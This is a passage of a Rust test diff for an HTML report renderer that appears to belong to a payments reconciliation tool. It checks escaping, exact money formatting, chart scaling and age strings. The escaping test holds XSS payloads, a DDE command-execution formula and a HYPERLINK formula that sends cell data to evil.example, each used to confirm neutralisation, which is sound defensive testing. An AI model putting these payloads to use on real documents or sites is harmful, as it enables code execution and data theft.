+                currency: usd(),
+                state: "new".into(),
+                first_seen: "2026-11-30T06:00:00Z".into(),
+            })
+            .collect();
+        let mut p = page(top);
+        p.summary["notes"] = json!(["<img src=x onerror=alert(1)>"]);
+        p.summary["job"] = json!("=cmd|' /C calc'!A0");
+        p.backfill.failures = vec![("<script>".into(), "=HYPERLINK(\"x\")".into())];
+        p.backfill.outcomes.insert("failed".into(), 1);
+        p.files = vec![(href("", "a\"b<c>.csv"), "a\"b<c>.csv".into())];
+        let html = render(&p);
+        let lower = html.to_ascii_lowercase();
+        assert!(!lower.contains("<script"), "{html}");
+        assert!(!lower.contains("<img"), "{html}");
+        assert!(
+            html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
+            "{html}"
+        );
+        // Formula text is neutralised as in the CSVs, then escaped.
+        assert!(
+            html.contains(
+                "&#39;=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;)"
+            ),
+            "{html}"
+        );
+        assert!(
+            html.contains("recon: &#39;=cmd|&#39; /C calc&#39;!A0"),
+            "{html}"
+        );
+        assert!(!html.contains(">=HYPERLINK("), "{html}");
+        assert!(html.contains("href=\"a%22b%3Cc%3E.csv\""), "{html}");
+        assert!(html.contains("file &lt;b&gt;x&lt;/b&gt;"));
+        // No script and nothing loaded from anywhere.
+        assert!(!lower.contains("src=\"http"), "{html}");
+        assert!(html.contains("default-src 'none'"));
+    }
+
+    #[test]
+    fn money_is_exact_beyond_2_pow_53() {
+        // 2^53 + 1 minor units: a double would print …992.
+        let html = render(&page(vec![TopRow {
+            class: "gap",
+            key: "ch_big".into(),
+            minor: i128::from(i64::MAX),
+            currency: usd(),
+            state: "persisting".into(),
+            first_seen: "2026-11-27T06:00:00Z".into(),
+        }]));
+        assert!(html.contains("90071992547409.93 USD"), "{html}");
+        assert!(html.contains("90071992547400.00 USD"), "{html}");
+        assert!(html.contains("-9.93 USD"), "{html}");
+        assert!(html.contains("92233720368547758.07 USD"), "{html}");
+        assert!(
+            html.contains(">3d 0h<"),
+            "age of the persisting one: {html}"
+        );
+        let totals = summary_totals(&summary()).unwrap();
+        assert_eq!(totals[0].source_minor, 9_007_199_254_740_993);
+        // Sums beyond 64 bits stay exact too.
+        let mut s = summary();
+        s["totals"]["source"][0]["total_minor"] = json!("170141183460469231731687303715884105727");
+        let t = summary_totals(&s).unwrap();
+        assert_eq!(t[0].source_minor, i128::MAX);
+        let mut p = page(vec![]);
+        p.history[0].deltas.insert(usd(), i128::MIN + 1);
+        let html = render(&p);
+        assert!(
+            html.contains("-1701411834604692317316873037158841057.27 USD"),
+            "{html}"
+        );
+    }
+
+    #[test]
+    fn charts_have_one_bar_per_run_and_scale_without_overflow() {
+        assert_eq!(scale(u128::MAX, u128::MAX, CHART_H), CHART_H);
+        assert_eq!(scale(5, 10, CHART_H), CHART_H / 2);
+        assert_eq!(scale(0, 0, CHART_H), 0);
+        let mut p = page(vec![]);
+        let mut first = p.history[0].clone();
+        first.run_id = "charges-0".into();
+        first.classes = [Some(5), None, Some(0), Some(0)];
+        p.history.insert(0, first);
+        let html = render(&p);
+        let gaps = html
+            .split("data-series=\"gaps\"")
+            .nth(1)
+            .unwrap()
+            .split("</figure>")
+            .next()
+            .unwrap();
+        assert_eq!(gaps.matches("<rect").count(), 2, "{gaps}");
+        let orphans = html
+            .split("data-series=\"orphans\"")
+            .nth(1)
+            .unwrap()
+            .split("</figure>")
+            .next()
+            .unwrap();
+        assert_eq!(
+            orphans.matches("<rect").count(),
+            1,
+            "no bar for an unrecorded count"
+        );
+        assert!(html.contains("data-series=\"delta-USD\""));
+    }
+
+    #[test]
+    fn ages_read_like_a_person_would_say_them() {
+        assert_eq!(age("2026-11-27T06:00:00Z", "2026-11-30T09:00:00Z"), "3d 3h");
+        assert_eq!(age("2026-11-30T01:00:00Z", "2026-11-30T06:30:00Z"), "5h");
+        assert_eq!(age("2026-11-30T06:00:00Z", "2026-11-30T06:00:00Z"), "0m");
+        assert_eq!(age("", "2026-11-30T06:00:00Z"), "");
+    }
+}
